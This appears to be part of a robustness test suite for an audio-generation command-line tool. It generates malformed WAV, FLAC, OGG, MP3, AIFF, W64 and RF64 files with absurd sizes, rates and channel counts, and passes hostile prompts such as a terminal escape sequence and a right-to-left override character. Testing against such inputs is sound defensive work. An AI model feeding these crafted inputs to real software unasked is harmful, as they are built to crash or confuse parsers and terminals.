def _put(data: bytes, at: int, new: bytes) -> bytes:
    return data[:at] + new + data[at + len(new) :]


def hostile_sounds() -> dict[str, bytes]:
    """Contents of files with the suffix of a sound, by a description of the problem."""
    riff = b"RIFF\xff\xff\xff\xffWAVE"
    tone = np.random.default_rng(0).integers(-9000, 9000, 24_000).astype("<i2").tobytes()
    flac, ogg, mp3 = _encoded("FLAC"), _encoded("OGG"), _encoded("MP3")
    aiff, w64, rf64 = _encoded("AIFF"), _encoded("W64"), _encoded("RF64")
    most = b"\xff" * 8
    return {
        "empty": b"",
        "a text": b"hello " * 100,
        "only a head": riff,
        "chunks of 4 GB": riff + b"LIST\xff\xff\xff\xffINFO" + bytes(100),
        "thousands of chunks": riff + b"note\0\0\0\0" * 100_000,
        "a rate of 0": _wav(tone, rate=0),
        "a rate of 1": _wav(tone, rate=1),
        "a rate of 2^31": _wav(tone, rate=2**31),
        "a rate of 2^32 - 1": _wav(tone, rate=2**32 - 1),
        "no channel": _wav(tone, channels=0),
        "65,535 channels": _wav(tone, channels=65_535, block=65_534),
        "1,024 channels": _wav(tone, channels=1024, block=2048),
        "no bits": _wav(tone, bits=0),
        "65,535 bits": _wav(tone, bits=65_535),
        "a block of 0": _wav(tone, block=0),
        "a size of 4 GB": _wav(tone, size=2**32 - 2),
        "a size of 0": _wav(tone, size=0),
        "an odd size": _wav(tone[:-1]),
        "a codec that nobody knows": _wav(tone, code=0x7777),
        "floats that are not finite": _wav(b"\0\0\xc0\x7f" * 12_000, code=3, bits=32, block=4),
        "floats of 1e38": _wav(struct.pack("<f", 1e38) * 12_000, code=3, bits=32, block=4),
        "a flac of 2^36 samples": _put(flac, 21, b"\xff" * 5),
        "a flac of no rate": _put(flac, 18, b"\0\0"),
        "a flac of zeros behind its head": _put(flac, 60, bytes(len(flac) - 60)),
        "an ogg of zeros behind its head": _put(ogg, 200, bytes(len(ogg) - 200)),
        "an ogg whose last page is at 2^63": ogg.replace(b"OggS\0\x04", b"OggS\0\x04" + most[:7])
        if b"OggS\0\x04" in ogg
        else ogg[:-1],
        "an mp3 behind a tag of 256 MB": b"ID3\x04\0\0\x7f\x7f\x7f\x7f" + mp3,
        "an mp3 of heads alone": mp3[:4] * 10_000,
        "an aiff of 2^32 frames": aiff.replace(b"COMM\0\0\0\x12\0\x01", b"COMM\0\0\0\x12\xff\xff"),
        "a w64 of 2^63 bytes": _put(w64, 16, most[:7] + b"\x7f"),
        "an rf64 of 2^63 bytes": _put(rf64, 20, most[:7] + b"\x7f" + most[:7] + b"\x7f"),
        "noise": np.random.default_rng(1).bytes(20_000),
    }


USES = {
    "show": ("show", "{}"),
    "edit": ("edit", "{}", "rain", "--region", "0.2-0.3"),
    "extend": ("extend", "{}", "rain", "--to", "1.2"),
    "vary": ("vary", "{}", "rain"),
    "check": ("data", "check", "."),
    "encode": ("data", "encode", ".", "tokens", "--codec", "nano"),
}
_SUFFIXES = ("flac", "ogg", "mp3", "aiff", "w64", "rf64")
_MAKES = ("edit", "extend", "vary")  # and so need a model


def _sounds() -> Iterator[Case]:
    def case(words: str, data: bytes, use: str) -> Case:
        def make(folder: Path) -> list[str]:
            kind = next((k for k in _SUFFIXES if k in words.split()), "wav")
            name = f"a.{kind}"
            (folder / name).write_bytes(data)
            (folder / name).with_suffix(".txt").write_text("rain\n")
            flags = ["-m", "nano", "--preset", "fast", "-q", "-o", "made.wav"]
            return [part.format(name) for part in USES[use]] + flags * (use in _MAKES)

        return Case(f"a sound for {use}: {words}", make, (0, 1, 2, 3, 4))

    for number, (words, data) in enumerate(hostile_sounds().items()):
        for turn, use in enumerate(USES):  # shown, and tried on two more commands
            if turn == 0 or (turn + number) % 5 < 2:
                yield case(words, data, use)

    def folder_(folder: Path) -> list[str]:
        (folder / "a.wav").mkdir()
        return ["show", "a.wav"]

    yield Case("a sound: a folder", folder_, (2,))


# ------------------------------------------------------------------------------------------- prompts


def _prompts() -> Iterator[Case]:
    def case(words: str, prompt: str, statuses: tuple[int, ...] = (2,)) -> Case:
        return Case(
            f"a prompt: {words}",
            lambda folder: ["gen", *QUICK, "-o", "a.wav", "--", prompt],
            statuses,
        )

    yield case("empty", "")
    yield case("blank", " \t ")
    yield case("an escape", "rain\x1b[2J")
    yield case("bytes that are no text", os.fsdecode(b"\xff\xfe rain"))
    yield case("a million letters", "x" * 100_000)
    yield case("markup", "[bold]rain[/] :smile: [link=x]", (0,))
    yield case("right to left", "\u05d2\u05e9\u05dd \u202e rain", (0,))
    yield case("7,000 short words", "a " * 7_000, (0,))
    yield Case("a prompt from stdin that is no text",
               lambda folder: ["gen", "-", *QUICK, "-o", "a.wav"], (2,), stdin=b"\xff\xfe")  # fmt: skip
    cache = {"HF_HUB_CACHE": str(HUB_CACHE), "HF_HUB_OFFLINE": "1"}
    yield Case("a prompt of 7,000 tokens of a T5",
               lambda folder: ["gen", "a " * 7_000, "-m", SMALL, "--steps", "1", "-d", "0.2", "-q",
                               "-o", "a.wav"], (2,), "tokens", environment=cache)  # fmt: skip
